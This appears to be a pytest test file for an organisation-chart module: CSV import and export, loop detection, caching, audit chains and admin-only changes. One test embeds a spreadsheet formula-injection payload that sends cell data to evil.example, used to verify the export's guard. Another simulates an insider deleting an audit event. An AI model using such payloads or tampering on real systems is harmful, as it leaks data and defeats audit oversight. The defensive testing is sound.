"""The organisation chart (issue 17): store and application layer on SQLite and PostgreSQL.

CSV import (every bad line named, nothing imported), export and round trip, department and
manager loops, the cached snapshot seen by the next apply after a change, the audit chain
of changes, and who may change the chart."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select, text

from engine.app import access, admin, org
from engine.app.database import Database
from engine.app.service import Workflow
from engine.app.services import Services
from engine.errors import NotPermitted
from engine.i18n import set_locale
from engine.store import Event
from engine.store import org as org_store
from engine.store import users as user_store
from engine.store.audit import verify_chains
from tests.helpers.service import config

CHART = """\ufeffkind,id,name,parent,head,department,manager
department,gm,总经理办公室,,boss,,
department,quality,质量部,gm,qhead,,
department,lab,实验室,quality,,,
user,qhead,,,,quality,
user,inspector,,,,lab,
user,deputy,,,,gm,boss
"""


@pytest.fixture
def services(engine):
    cfg = config()
    found = Services(cfg, Database(engine), Workflow(cfg))
    with found.database.writing() as s:
        for name, groups in [("boss", []), ("qhead", []), ("inspector", []), ("deputy", []),
                             ("admin1", ["admins"]), ("clerk", ["qa-inspectors"]),
                             ("auditor1", ["auditors", "admins"])]:
            user_store.add_user(s, name, "pw", groups, full_name=name.upper())
    return found


def reader(services, name):
    with services.database.reading() as s:
        return access.reader_named(services.config, s, name)


def chart(services):
    return org.current_org(services.database)


def test_import_builds_the_chart_the_runtime_resolves_from(services):
    done = org.import_csv(services, reader(services, "admin1"), CHART.encode("utf-8"), "org.csv")
    assert (done.departments, done.users) == (3, 3)
    c = chart(services)
    assert c.version == done.version
    assert c.head_of("quality") == "qhead" and c.head_of("质量部") == "qhead"
    assert c.head_of("lab") is None and c.head_of("lab", levels=1) == "qhead"
    # no recorded manager: the head of the department, else of the one above
    assert c.manager_of("inspector") == "qhead"
    assert c.manager_of("inspector", levels=2) == "boss"
    assert c.manager_of("qhead") == "boss"  # heads quality: the head above
    assert c.manager_of("deputy") == "boss"
    assert c.members_of("quality") == ["qhead"]


def test_every_bad_line_is_named_and_nothing_is_imported(services):
    org.import_csv(services, "cli:test", CHART)
    before = org.export_csv(services)
    bad = ("kind,id,name,parent,head,department,manager\n"
           "department,gm,总经理办公室,,ghost,,\n"          # 2: unknown head
           "department,quality,质量部,nowhere,,,\n"          # 3: unknown parent
           "department,quality,重复,,,,\n"                   # 4: duplicate id
           "user,inspector,,,,lab,\n"                       # 5: unknown department
           "user,nobody,,,,gm,\n"                           # 6: unknown user
           "user,deputy,,,,gm,deputy\n"                     # 7: own manager
           "team,x,,,,,\n"                                  # 8: unknown kind
           "user,boss,老板,,,gm,\n"                          # 9: a department column on a user line
           "department,,无编号,,,,\n")                       # 10: no id
    with pytest.raises(org.OrgInvalid) as caught:
        org.import_csv(services, "cli:test", bad, "bad.csv")
    where = [(p.line, p.col) for p in caught.value.problems]
    assert where == [(2, 5), (3, 4), (4, 2), (5, 6), (6, 2), (7, 7), (8, 1), (9, 3), (10, 2)]
    assert all(p.file == "bad.csv" for p in caught.value.problems)
    text_ = caught.value.message
    assert "bad.csv:2:5: department 'gm': head 'ghost' is not a user; add the user first (wf user add)" in text_
    assert "bad.csv:4:2: department 'quality' is also on line 3" in text_
    assert org.export_csv(services) == before  # nothing imported
    assert caught.value.to_dict()["code"] == "org_invalid"


def test_header_problems_and_encodings(services):
    with pytest.raises(org.OrgInvalid, match=r"org.csv:1:3: unknown column 'boss'"):
        org.import_csv(services, "cli:test", "kind,id,boss\n")
    with pytest.raises(org.OrgInvalid, match=r"org.csv:1:2: the header has no column 'id'"):
        org.import_csv(services, "cli:test", "kind\n")
    with pytest.raises(org.OrgInvalid, match="not UTF-8 text; in Excel save it as 'CSV UTF-8"):
        org.import_csv(services, "cli:test", "kind,id,name\ndepartment,q,质量部\n".encode("gb18030"))
    with pytest.raises(org.OrgInvalid, match="org.csv:1:1: the file is empty"):
        org.import_csv(services, "cli:test", b"")
    # Excel's BOM, CRLF line ends, Chinese kinds, comments and blank lines are accepted
    done = org.import_csv(services, "cli:test", "\ufeffkind,id,name\r\n# 注释\r\n\r\n部门,q,质量部\r\n".encode())
    assert done.departments == 1 and chart(services).find_department("质量部").id == "q"


def test_messages_in_chinese(services):
    set_locale("zh")
    with pytest.raises(org.OrgInvalid, match="负责人“ghost”不是用户"):
        org.import_csv(services, "cli:test", "kind,id,name,head\ndepartment,q,质量部,ghost\n")


def test_loops_are_refused_with_their_path(services):
    loop = ("kind,id,name,parent,head,department,manager\n"
            "department,a,甲,c,,,\n"
            "department,b,乙,a,,,\n"
            "department,c,丙,b,,,\n")
    with pytest.raises(org.OrgInvalid) as caught:
        org.import_csv(services, "cli:test", loop)
    assert [p.line for p in caught.value.problems] == [2, 3, 4]
    assert "department 'a' is inside itself: a → c → b → a" in caught.value.message
    managers = ("kind,id,name,parent,head,department,manager\n"
                "user,boss,,,,,deputy\n"
                "user,deputy,,,,,qhead\n"
                "user,qhead,,,,,boss\n")
    with pytest.raises(org.OrgInvalid, match="the managers of 'boss' go round in a loop: boss → deputy → qhead → boss"):
        org.import_csv(services, "cli:test", managers)
    # a loop is named together with the other bad lines of the same file
    with pytest.raises(org.OrgInvalid) as caught:
        org.import_csv(services, "cli:test", managers + "user,inspector,,,,nowhere,\n")
    assert [p.line for p in caught.value.problems] == [2, 3, 4, 5]
    # a loop through a department head: boss heads gm and reports to deputy, who is in gm
    through_head = ("kind,id,name,parent,head,department,manager\n"
                    "department,gm,总经理办公室,,boss,,\n"
                    "user,deputy,,,,gm,\n"
                    "user,boss,,,,,deputy\n")
    with pytest.raises(org.OrgInvalid, match="boss → deputy → boss"):
        org.import_csv(services, "cli:test", through_head)
    # single changes are checked the same way
    org.import_csv(services, "cli:test", CHART)
    with pytest.raises(org.OrgInvalid, match="department 'gm' is inside itself: gm → lab → quality → gm"):
        org.save_department(services, "cli:test", "gm", parent="lab")
    with pytest.raises(org.OrgInvalid, match="go round in a loop"):
        org.set_person(services, "cli:test", "boss", manager="inspector")
    with pytest.raises(org.OrgInvalid, match="go round in a loop"):
        admin.set_manager(services, "boss", "deputy")  # `wf user manager` too
    assert chart(services).manager_of("boss") is None


def test_round_trip(services):
    org.import_csv(services, "cli:test", CHART)
    first = org.export_csv(services)
    assert first.startswith("\ufeffkind,id,name,parent,head,department,manager\r\n")
    org.import_csv(services, "cli:test", "kind,id\n")  # the whole chart is replaced: empty
    assert chart(services).departments == {}
    org.import_csv(services, "cli:test", first.encode("utf-8"))
    assert org.export_csv(services) == first


def test_a_name_excel_would_run_as_a_formula_is_exported_as_text(services):
    """An insider names a department ``=HYPERLINK(...)``: the export does not hand Excel a
    formula, and the round trip still gives the same name back."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    org.import_csv(services, "cli:test", f'kind,id,name,head\ndepartment,q,"{hostile.replace(chr(34), chr(34) * 2)}",boss\n')
    exported = org.export_csv(services)
    assert "\n" + "department,q,\"'=HYPERLINK" in exported.replace("\r\n", "\n")
    assert not any(cell.startswith("=") for line in exported.splitlines() for cell in line.split(","))
    org.import_csv(services, "cli:test", exported)
    assert chart(services).departments["q"].name == hostile


@pytest.mark.parametrize("name", ["'=1+1", "''=SUM(A1)", "'+86 021", "'@x", "'plain", "'", "=x'"])
def test_a_name_that_starts_like_the_formula_guard_comes_back_as_it_was(services, name):
    """A name typed with an apostrophe before =, +, - or @ (how people type text into Excel)
    lost its apostrophe on the way through the export and back: the import took it for the
    guard the export adds. The export guards it too, so the import takes off exactly what
    the export put on."""
    org.import_csv(services, "cli:test", CHART)
    org.save_department(services, "cli:test", "lab", name=name)
    exported = org.export_csv(services)
    org.import_csv(services, "cli:test", exported)
    assert chart(services).departments["lab"].name == name
    assert org.export_csv(services) == exported


def test_a_change_is_seen_by_the_next_apply(services, engine):
    org.import_csv(services, "cli:test", CHART)
    wf = services.workflow
    with services.database.reading() as s:
        cached = wf.org_chart(s)
        assert wf.org_chart(s) is cached  # no change: the same snapshot, not read again
    org.save_department(services, reader(services, "admin1"), "lab", head="inspector")
    with services.database.reading() as s:
        now = wf.org_chart(s)
    assert now is not cached and now.version == cached.version + 1 and now.head_of("lab") == "inspector"
    # changes made outside the chart's own use cases invalidate it too
    with services.database.writing() as s:
        user_store.set_active(s, "qhead", False)
    assert chart(services).head_of("quality") is None  # inactive users hold no post
    assert chart(services).manager_of("inspector") == "boss"  # heads lab; quality's head is inactive
    with services.database.writing() as s:
        user_store.add_user(s, "newbie", "pw", [], manager="deputy")
    assert chart(services).manager_of("newbie") == "deputy"


def test_each_database_has_its_own_cache(services, tmp_path):
    """Two databases at the same version never share a cached snapshot (random stamps)."""
    org.import_csv(services, "cli:test", CHART)
    from engine import store

    other_url = f"sqlite:///{tmp_path / 'other.db'}"
    store.upgrade(other_url)
    other = store.make_engine(other_url)
    try:
        with Database(other).reading() as s:
            assert org.current_org(s).departments == {}
    finally:
        other.dispose()


def test_tick_escalates_to_the_department_head_when_no_manager_is_recorded(sessions, engine):
    """Escalations ``to: manager`` follow OrgChart.manager_of: clerk2 has no manager recorded,
    so the head of clerk2's department is told and may act; with that head deactivated, the
    level falls back to its role as before."""
    from engine.app.worker import Worker
    from tests.helpers.service import open_task
    from tests.helpers.time import Clock, local, time_setup

    clock = Clock(local("2026-09-30 16:00"))
    wf = time_setup(sessions, clock)
    services = Services(wf.config, Database(engine), wf)
    for head_active in (True, False):
        clock.set(local("2026-09-30 16:00"))
        if head_active:
            org.save_department(services, "cli:test", "desk", name="服务台", head="boss", create=True)
            org.set_person(services, "cli:test", "clerk2", department="desk")
        else:
            with services.database.writing() as s:
                user_store.set_active(s, "boss", False)
        with sessions() as s:
            state = wf.start(s, "timed-steps", "clerk2", {"kind": "due", "promised": "2026-10-09T10:00:00+08:00"})
            wf.claim(s, open_task(state, "by_due"), "clerk2")
            s.commit()
        clock.set(local("2026-10-09 10:00"))
        Worker(wf, sessions).run_once()
        with sessions() as s:
            [esc] = [e for e in s.scalars(select(Event).where(Event.instance_id == state["id"]))
                     if e.type == "deadline:escalated"]
        if head_active:
            assert (esc.data["to"], esc.data["user"], esc.data["of"]) == ("manager", "boss", "clerk2")
        else:
            assert esc.data["to"] == "director" and esc.data["fallback"] == "manager"


def test_changes_are_audited_on_their_own_chain(services):
    org.import_csv(services, reader(services, "admin1"), CHART, "org.csv")
    org.set_person(services, "cli:ops", "inspector", department="quality")
    org.save_department(services, "cli:ops", "qa2", name="质量二部", parent="quality", create=True)
    with services.database.reading() as s:
        events = [e for e in org_store.events(s) if e.actor != "system"]  # not the fixture's users
        assert [(e.type, e.actor) for e in events] == [
            ("org:imported", "admin1"), ("org:user_edited", "cli:ops"), ("org:department_added", "cli:ops")]
        assert events[0].data["departments"] == 3 and len(events[0].data["sha256"]) == 64
        assert events[1].data == {"user": "inspector", "changes": {"department": {"before": "lab", "after": "quality"}}}
        assert verify_chains(s).ok and org_store.head_problem(s) is None
    assert admin.verify_audit(services).ok


def test_an_insider_removing_the_last_change_is_caught(services, engine):
    org.import_csv(services, "cli:test", CHART)
    org.set_person(services, "cli:test", "inspector", manager="boss")
    with engine.begin() as conn:  # the insider drops the insert-only guard first
        from engine.store import insert_only

        insert_only.remove(conn)
        last = conn.execute(text("SELECT max(seq) FROM events WHERE instance_id = 'org'")).scalar_one()
        conn.execute(text(f"DELETE FROM events WHERE instance_id = 'org' AND seq = {last}"))
        insert_only.install(conn)
    report = admin.verify_audit(services)
    assert not report.ok
    assert any(f"organisation chart records {last} changes, its chain ends at seq {last - 1}" in b.detail
               for b in report.breaks)


def test_only_admins_change_the_chart(services):
    org.import_csv(services, "cli:test", CHART)
    before = org.export_csv(services)
    clerk, auditor = reader(services, "clerk"), reader(services, "auditor1")
    for who in (clerk, auditor):
        with pytest.raises(NotPermitted):
            org.import_csv(services, who, "kind,id\n")
        with pytest.raises(NotPermitted):
            org.save_department(services, who, "quality", head="clerk")
        with pytest.raises(NotPermitted):
            org.set_person(services, who, "clerk", manager="boss")
    assert org.export_csv(services) == before
    # everybody signed in may read it
    seen = org.view(services, clerk)
    assert not seen.may_change and [d.id for d in seen.departments] == ["gm", "quality", "lab"]
    assert org.view(services, reader(services, "admin1")).may_change


def test_department_use_cases(services):
    org.import_csv(services, "cli:test", CHART)
    org.save_department(services, "cli:test", "lab", name="检测中心")
    org.save_department(services, "cli:test", "lab", parent="gm")
    org.save_department(services, "cli:test", "lab", head="inspector")
    d = chart(services).departments["lab"]
    assert (d.name, d.parent, d.head) == ("检测中心", "gm", "inspector")
    with pytest.raises(Exception, match="does not exist; add it first"):
        org.save_department(services, "cli:test", "nope", name="x")
    with pytest.raises(Exception, match="exists already"):
        org.save_department(services, "cli:test", "lab", name="x", create=True)
    with pytest.raises(org.OrgInvalid, match="head 'ghost' is not a user"):
        org.save_department(services, "cli:test", "lab", head="ghost")
    with pytest.raises(org.OrgInvalid, match="department 'nowhere' is not a department"):
        org.set_person(services, "cli:test", "clerk", department="nowhere")


def test_view_shows_tree_heads_members_and_whom_they_report_to(services):
    org.import_csv(services, "cli:test", CHART)
    found = org.view(services, "cli:test")
    assert [(d.id, d.depth, d.head) for d in found.departments] == [("gm", 0, "boss"), ("quality", 1, "qhead"),
                                                                   ("lab", 2, None)]
    lab = found.departments[2]
    assert [(p.username, p.manager, p.reports_to) for p in lab.members] == [("inspector", None, "qhead")]
    as_json = org.as_dict(found)
    assert as_json["departments"][0]["members"][0] == {"user": "deputy", "name": "DEPUTY", "active": True,
                                                       "manager": "boss", "reports_to": "boss"}


def test_demo_chart_fits_the_demo_users(engine):
    cfg = config()
    services = Services(cfg, Database(engine), Workflow(cfg))
    assert admin.create_demo_users(services)
    done = org.seed_demo(services)
    assert done is not None and done.departments == 5
    c = chart(services)
    assert c.manager_of("qa-inspectors") == "qa-supervisors"
    assert c.manager_of("qa-supervisors") == "quality-dept"  # the head of 质量部
    assert c.head_of("客服部") == "customer-service-managers"
    assert c.manager_of("branch-service", levels=2) == "branch-managers"
    assert org.seed_demo(services) is None  # once


def test_the_stamp_check_is_cheap(services):
    """The per-apply check is one primary-key read; reading the whole chart is not done
    while the stamp is unchanged."""
    org.import_csv(services, "cli:test", CHART)
    with services.database.reading() as s:
        org.current_org(s)
        start = datetime.now(UTC)
        for _ in range(200):
            org.current_org(s)
        spent = datetime.now(UTC) - start
    assert spent < timedelta(seconds=1)  # about 20-100 µs each


def test_migration_starts_the_state_row(engine):
    with engine.connect() as conn:
        rows = conn.execute(select(text("version, stamp, event_seq")).select_from(text("org_state"))).all()
    assert len(rows) == 1 and rows[0][0] == 0 and len(rows[0][1]) == 32 and rows[0][2] == 0
    with engine.connect() as conn:
        assert conn.execute(select(Event.id).where(Event.instance_id == "org")).first() is None


def test_a_step_brings_the_stamp_and_sees_the_change(services):
    """The step's own round trip (``load_for_step``) carries the chart's stamp: a change made
    between two steps is what the second one resolves from, with no read of its own."""
    from engine.store import repo

    wf = services.workflow
    with services.database.writing() as s:
        wf.load_procedures(s)
        started = wf.start(s, "after-sales-inspection", "clerk",
                           {"customer": "c", "product_name": "p", "serial_no": "s", "quantity": 1})
    org.import_csv(services, "cli:test", CHART)
    with services.database.writing() as s:
        row = repo.load_for_step(s, started["id"], "clerk")
        first = wf.org_chart(s, row.org_stamp)
    assert row.org_stamp[1] == first.version and first.head_of("lab") is None
    org.save_department(services, "cli:test", "lab", head="inspector")
    with services.database.writing() as s:
        row2 = repo.load_for_step(s, started["id"], "clerk")
        second = wf.org_chart(s, row2.org_stamp)
    assert row2.org_stamp != row.org_stamp and second.head_of("lab") == "inspector"
